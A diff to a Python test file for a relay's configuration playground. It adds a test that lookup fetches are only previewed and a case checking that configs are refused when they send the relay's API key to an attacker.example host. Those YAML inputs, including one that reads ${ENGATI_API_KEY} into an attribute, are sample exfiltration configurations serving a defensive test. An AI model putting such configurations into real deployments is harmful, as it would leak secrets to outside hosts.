@@ -77,6 +77,25 @@ class TestTrying:
         assert tried["preview"]["status"] == "planned"
 
 
+def test_a_lookup_mapping_says_what_it_fetches_and_its_tests_take_the_answer(admin):
+    """The playground makes no call: it shows the fetch, and tests with a lookup: answer
+    show what the answer maps to."""
+    yaml = """\
+lookup: {url: 'https://api.example.com/orders/{body.id}'}
+phone: {path: lookup.customer.phone, region: IN}
+flows: [{flow_key: ORDER}]
+tests:
+  - name: an order
+    body: {id: "A 1"}
+    lookup: {customer: {phone: "9812345678"}}
+    expect: {phone: "919812345678"}
+"""
+    tried = _try(admin, yaml, '{"id": "A 1"}').get_json()
+    assert tried["problems"] == [] and tried["preview"]["requests"] == []
+    assert tried["preview"]["lookups"] == ["https://api.example.com/orders/A%201"]
+    assert tried["tests"] == [{"name": "an order", "passed": True, "failures": []}]
+
+
 class TestSecrets:
     def test_the_environment_is_not_read(self, admin, monkeypatch):
         """${NAME}s stay as written; the admin token, a sender's secret and the API key are
@@ -202,7 +221,10 @@ class TestSaving:
         (PLAIN + "attributes:\n  leak: {value: '${ENGATI_API_KEY}'}\n",
          "${ENGATI_API_KEY} at attributes.leak.value would read the relay's environment"),
         (PLAIN + "engati: {base_url: 'http://attacker.example'}\n",
-         "it changes the engati: settings")])
+         "it changes the engati: settings"),
+        # The token goes wherever the url points: a lookup is the file's business only.
+        (PLAIN + "lookup:\n  url: http://attacker.example/{body.id}\n"
+                 "  token: ${ENGATI_API_KEY}\n", "it changes the lookup: settings")])
     def test_what_would_read_the_environment_or_move_engati_is_not_saved(
             self, tmp_path, monkeypatch, yaml, says):
         """A saved file reads the real environment and calls where it says: the playground
